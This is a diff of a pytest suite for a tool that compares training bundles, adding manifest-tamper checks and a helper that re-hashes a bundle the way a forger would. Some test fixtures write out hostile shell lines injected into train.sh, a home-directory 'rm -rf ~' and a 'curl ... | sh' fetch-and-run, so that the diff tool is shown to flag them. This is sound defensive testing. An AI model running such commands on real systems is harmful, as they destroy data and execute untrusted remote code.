@@ -15,6 +15,7 @@ from typing import Any
 import pytest
 import tomli_w
 
+from acrl.compiler._bundle import bundle_hash, sha256
 from acrl.compiler._bundle_view import FORWARDED, PINNED_AT_LAUNCH, bash_arrays
 from acrl.compiler._cli import acrl_main
 from acrl.compiler._diff import GROUPS, SECTIONS, flag_group
@@ -54,6 +55,15 @@ def edit(path: Path, old: str, new: str) -> None:
     path.write_text(text.replace(old, new, 1))
 
 
+def rehash(bundle: Path) -> None:
+    """Record the bundle's files as they are now in its manifest (as a forger would), so that it
+    matches its manifest again after an edit."""
+    manifest = json.loads((bundle / "manifest.json").read_text())
+    files = {name: sha256((bundle / name).read_bytes()) for name in manifest["files"]}
+    manifest.update(files=files, bundle_hash=bundle_hash(files))
+    (bundle / "manifest.json").write_text(json.dumps(manifest))
+
+
 def test_a_bundle_is_equivalent_to_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     a = copy_golden(tmp_path, "a")
     code, out, err = run(capsys, "diff", str(a), str(a))
@@ -79,7 +89,7 @@ def test_hand_edited_flags_are_grouped_with_values_before_and_after(tmp_path: Pa
     }
     assert [c["group"] for c in data["sections"]["flags"]] == sorted(
         (c["group"] for c in data["sections"]["flags"]), key=GROUPS.index)  # in the order of GROUPS
-    assert any(f"{b} does not match its manifest (modified train.sh)" in note for note in data["notes"])
+    assert any(f"{b} does not match its manifest (modified train.sh)" in line for line in data["unverified"])
 
 
 def test_reordering_flags_keys_and_tables_is_not_a_difference(tmp_path: Path, write_spec: SpecWriter,
@@ -105,7 +115,11 @@ def test_reordering_flags_keys_and_tables_is_not_a_difference(tmp_path: Path, wr
     (b / "spec.toml").write_text(tomli_w.dumps(dict(reversed(list(resolved.items())))))
     assert (b / "train.sh").read_bytes() != (a / "train.sh").read_bytes()
     code, data = diff_json(capsys, a, b)
-    assert (code, data["equivalent"], data["differences"]) == (0, True, 0)
+    assert (code, data["equivalent"], data["differences"]) == (1, False, 0)  # b no longer matches its manifest
+    assert [line.split(" (")[0] for line in data["unverified"]] == [f"{b} does not match its manifest"]
+    rehash(b)
+    code, data = diff_json(capsys, a, b)
+    assert (code, data["equivalent"], data["differences"], data["unverified"]) == (0, True, 0, [])
 
 
 def test_two_specs_are_compiled_and_compared(write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
@@ -195,8 +209,9 @@ def test_a_command_added_to_train_sh_is_a_difference(tmp_path: Path, capsys: pyt
     edit(b / "train.sh", "readonly SLIME_DIR=/root/slime\n", "readonly SLIME_DIR=/root/slime; rm -rf ~\n")
     code, data = diff_json(capsys, a, b)
     assert code == 1
-    assert changes(data, "script") == {"train.sh": ("changed", [], ["readonly SLIME_DIR=/root/slime; rm -rf ~",
-                                                                   "curl -s https://example.com | sh"])}
+    assert changes(data, "script") == {"train.sh": ("changed", ["readonly SLIME_DIR=<launch setting SLIME_DIR>"],
+                                                    ["readonly SLIME_DIR=/root/slime; rm -rf ~",
+                                                     "curl -s https://example.com | sh"])}
     code, out, _ = run(capsys, "diff", str(a), str(b), "--format", "markdown")
     assert "+ curl -s https://example.com | sh" in out
 
@@ -252,7 +267,7 @@ def test_json_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     edit(b / "custom_config.yaml", "max_concurrent: 100", "max_concurrent: 128")
     code, data = diff_json(capsys, a, b)
     assert code == 1
-    assert set(data) == {"a", "b", "equivalent", "differences", "sections", "notes"}
+    assert set(data) == {"a", "b", "equivalent", "differences", "sections", "unverified", "notes"}
     assert (data["a"], data["b"], data["equivalent"], data["differences"]) == (str(a), str(b), False, 1)
     assert sorted(data["sections"]) == sorted(id for id, _ in SECTIONS)
     assert data["sections"]["custom_config"] == [
@@ -341,3 +356,50 @@ def test_a_flag_given_twice_counts_once_with_its_last_value(tmp_path: Path,
     assert code == 1
     assert changes(data, "flags") == {"--lr": ("changed", ["1e-06"], ["3e-06"], "optimizer")}
     assert f"{b}: train.sh gives --lr more than once; slime keeps the last value" in data["notes"]
+
+
+@pytest.mark.parametrize(("old", "new", "removed", "added"), [
+    # ray start moved from the "no cluster" branch into the "existing cluster" branch
+    ("  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n"
+     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\nelse\n',
+     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\nelse\n'
+     "  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n",
+     ["  ray start --head <launch setting>"], ["  ray start --head <launch setting>"]),
+    ("#!/usr/bin/env bash\n", "#!/bin/sh\n", ["#!/usr/bin/env bash"], ["#!/bin/sh"]),
+    ("  SLIME_ARGS+=(--use-wandb)\nelse\n", "  :\nelse\n", ["  SLIME_ARGS+=( ... )"], ["  :"]),
+    ("if [[ -n ${WANDB_API_KEY:-} ]]; then\n", "if true; then\n", ["if <W&B key variable is set>; then"],
+     ["if true; then"]),
+])
+def test_moving_a_line_read_elsewhere_is_a_difference(old: str, new: str, removed: list[str], added: list[str],
+                                                      tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Lines read into launch settings or flags stay in the script lines as placeholders, and the
+    shebang is kept: a move, or a changed interpreter, is a difference even in a re-hashed bundle."""
+    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
+    edit(b / "train.sh", old, new)
+    rehash(b)
+    code, data = diff_json(capsys, a, b)
+    assert (code, data["unverified"]) == (1, [])
+    assert changes(data, "script") == {"train.sh": ("changed", removed, added)}
+
+
+def test_moving_slime_args_out_of_its_if_is_a_difference(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
+    edit(b / "train.sh", "  SLIME_ARGS+=(--use-wandb)\n", "")
+    edit(b / "train.sh", "CLUSTER_ADDRESS=${ACRL_RAY_ADDRESS:-}\n",
+         "SLIME_ARGS+=(--use-wandb)\nCLUSTER_ADDRESS=${ACRL_RAY_ADDRESS:-}\n")
+    rehash(b)
+    code, data = diff_json(capsys, a, b)
+    assert code == 1 and data["sections"]["flags"] == []
+    assert changes(data, "script") == {"train.sh": ("changed", ["  SLIME_ARGS+=( ... )"], ["SLIME_ARGS+=( ... )"])}
+
+
+def test_a_bundle_that_does_not_match_its_manifest_is_never_equivalent(tmp_path: Path,
+                                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    a = copy_golden(tmp_path, "a")
+    edit(a / "train.sh", "\nreadonly CLUSTER_ADDRESS\n", "\n# a comment\nreadonly CLUSTER_ADDRESS\n")
+    for format in ("text", "markdown", "json"):
+        code, out, err = run(capsys, "diff", str(a), str(a), "--format", format)
+        assert (code, err) == (1, "")
+        assert f"{a} does not match its manifest (modified train.sh)" in out
+    code, out, _ = run(capsys, "diff", str(a), str(a))
+    assert out.splitlines()[:3] == [f"--- {a}", f"+++ {a}", "0 differences"]
